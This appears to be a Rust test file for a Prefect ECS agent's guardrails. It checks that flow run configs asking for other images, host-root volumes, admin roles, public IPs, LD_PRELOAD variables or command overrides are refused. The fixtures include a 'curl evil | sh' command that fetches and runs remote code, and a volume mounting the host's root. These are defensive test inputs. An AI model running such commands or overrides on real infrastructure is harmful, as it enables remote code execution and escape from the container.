use super::*;
use crate::config::{Backend, Rules};
use secrecy::SecretString;

pub(super) const CONFIG: &str = "prefect: 1\ncluster: prefect\n";

fn settings(rules: Rules) -> AgentSettings {
    AgentSettings {
        rules,
        backend: Backend::Cloud,
        api: "https://api.prefect.io".into(),
        api_key: Some(SecretString::from("pnu_k")),
        auth_token: None,
        tenant_id: Some("tenant".into()),
        labels: vec![],
        env_vars: vec![("AWS_MAX_ATTEMPTS".into(), "9".into())],
        no_cloud_logs: false,
        logging_level: "INFO".into(),
        cluster: Some("agents-own".into()),
        launch_type: None,
        task_role_arn: Some("agents-own-task".into()),
        execution_role_arn: Some("agents-own-execution".into()),
        task_definition: None,
        run_task_kwargs: Map::new(),
    }
}

pub(super) fn described(rules: Rules, run_config: Value) -> RunDescription {
    with_storage(rules, run_config, json!({"type": "Local", "flows": {}}))
}

fn with_storage(rules: Rules, mut run_config: Value, storage: Value) -> RunDescription {
    run_config["type"] = json!("ECSRun");
    let flow = json!({"id": "flow-1", "version": 1, "name": "etl", "storage": storage, "core_version": "1.4.1"});
    let run = serde_json::from_value(json!({"id": RUN, "flow": flow, "run_config": run_config})).unwrap();
    RunDescription::One(Arc::new(settings(rules)), Arc::new(run))
}

/// The agent's own documents ask for what no rule allows.
fn documents() -> Documents {
    Documents {
        task_definition: Some(object(json!({
            "networkMode": "awsvpc", "cpu": 1024, "memory": 2048,
            "containerDefinitions": [
                {"name": "flow", "image": "agents/own:1"},
                {"name": "logs", "image": "agents/logs:1", "command": ["collect"],
                 "secrets": [{"name": "AWS_TOKEN", "valueFrom": "/agents/token"}]},
            ],
            "volumes": [{"name": "x", "host": {"sourcePath": "/agents"}}],
        }))),
        run_task_kwargs: object(json!({"networkConfiguration": {"awsvpcConfiguration":
            {"subnets": ["subnet-agents"], "securityGroups": ["sg-agents"], "assignPublicIp": "ENABLED"}}})),
    }
}

fn attempts() -> Vec<(&'static str, Value, &'static str)> {
    let kwargs = |value: Value| json!({"run_task_kwargs": value});
    let overrides = |value: Value| json!({"run_task_kwargs": {"overrides": value}});
    let evil = json!(["sh", "-c", "curl evil | sh"]);
    let network = |subnet: &str, group: &str, address: &str| {
        kwargs(
            json!({"networkConfiguration": {"awsvpcConfiguration": {"subnets": [subnet], "securityGroups": [group], "assignPublicIp": address}}}),
        )
    };
    let volume = json!({"volumes": [{"name": "x", "host": {"sourcePath": "/"}}], "containerDefinitions": [{"name": "flow", "image": IMAGE}]});
    vec![
        ("another image", json!({"image": "evil/x"}), "images"),
        (
            "a definition of its own",
            json!({"task_definition": {"containerDefinitions": [{"name": "flow", "image": IMAGE}]}}),
            "task_definitions",
        ),
        ("a volume of its own definition", json!({"task_definition": volume}), "volumes"),
        ("a definition that lies elsewhere", json!({"task_definition_path": "s3://bucket/key"}), "task_definitions"),
        ("a definition by its name", json!({"task_definition_arn": "other"}), "task_definitions"),
        ("CPU", json!({"cpu": "16 vCPU"}), "cpu"),
        ("memory", json!({"memory": "64GB"}), "memory"),
        ("CPU as a number in overrides", overrides(json!({"cpu": 16384})), "cpu"),
        ("another role", json!({"task_role_arn": "admin"}), "task_roles"),
        ("another execution role", json!({"execution_role_arn": "admin"}), "execution_roles"),
        ("another cluster", kwargs(json!({"cluster": "other"})), "clusters"),
        ("instances", kwargs(json!({"launchType": "EC2"})), "launch_types"),
        ("five tasks", kwargs(json!({"count": 5})), "cpu"),
        ("another subnet", network("subnet-z", "sg-flows", "DISABLED"), "subnets"),
        ("another security group", network("subnet-1", "sg-open", "DISABLED"), "security_groups"),
        ("a public address", network("subnet-1", "sg-flows", "ENABLED"), "public_ip"),
        ("a denied variable", json!({"env": {"LD_PRELOAD": "x"}}), "environment"),
        ("a variable of the agent's with another value", json!({"env": {"AWS_MAX_ATTEMPTS": "1"}}), "environment"),
        (
            "a denied variable in overrides",
            overrides(
                json!({"containerOverrides": [{"name": "logs", "environment": [{"name": "AWS_PROFILE", "value": "x"}]}]}),
            ),
            "environment",
        ),
        (
            "a command of the agent's sidecar",
            overrides(json!({"containerOverrides": [{"name": "logs", "command": evil.clone()}]})),
            "command",
        ),
        ("a command of nobody", overrides(json!({"containerOverrides": [{"command": evil}]})), "command"),
        ("a member that only a newer AWS knows", kwargs(json!({"runAsRoot": true})), "members"),
    ]
}

#[tokio::test]
async fn what_run_configs_ask_for_beyond_the_guardrails_is_refused() {
    let mut rows = Vec::new();
    for rules in [Rules::V0_15, Rules::V1] {
        for (what, run_config, rule) in attempts() {
            let room = Room::new(&format!("{CONFIG}{GUARDRAILS}"), documents(), UnknownMembers::Send);
            let other = json!({"family": "other", "containerDefinitions": [{"name": "flow", "image": IMAGE}]});
            room.aws.world().register(&object(other));
            rows.push((format!("{rules:?}: {what}"), rule, room.refused(described(rules, run_config), rule).await));
        }
        let room = Room::new(&format!("{CONFIG}{GUARDRAILS}"), documents(), UnknownMembers::Send);
        let storage =
            json!({"type": "Docker", "registry_url": "evil.io", "image_name": "x", "image_tag": "1", "flows": {}});
        let run = with_storage(rules, json!({}), storage);
        rows.push((format!("{rules:?}: an image of Docker storage"), "images", room.refused(run, "images").await));
    }
    table(rows);
}

/// Whatever the agent's own configuration and documents ask for is allowed by that, also when a run asks for it.
#[tokio::test]
async fn what_the_agent_itself_asks_for_is_allowed() {
    for rules in [Rules::V0_15, Rules::V1] {
        for (what, run_config) in [
            ("nothing", json!({})),
            ("what is allowed", json!({"image": IMAGE, "cpu": "512", "memory": "1 GB", "task_role_arn": "flows-task"})),
            ("the agent's own role", json!({"task_role_arn": "agents-own-task"})),
            ("variables", json!({"env": {"TZ": "UTC"}})),
        ] {
            let room = Room::new(&format!("{CONFIG}{GUARDRAILS}"), documents(), UnknownMembers::Send);
            let launch = room.prepare(described(rules, run_config)).await;
            assert!(launch.is_ok(), "{rules:?} {what}: {launch:?}");
        }
    }
}

#[tokio::test]
async fn a_network_that_is_inferred_is_made_private() {
    let room = Room::new(&format!("{CONFIG}{GUARDRAILS}"), Documents::default(), UnknownMembers::Refuse);
    let launch = room.prepare(described(Rules::V1, json!({"image": IMAGE}))).await.unwrap().launch;
    let network = json!({"subnets": ["subnet-1", "subnet-2"], "assignPublicIp": "DISABLED"});
    assert_eq!(launch.run_task["networkConfiguration"]["awsvpcConfiguration"], network);
}
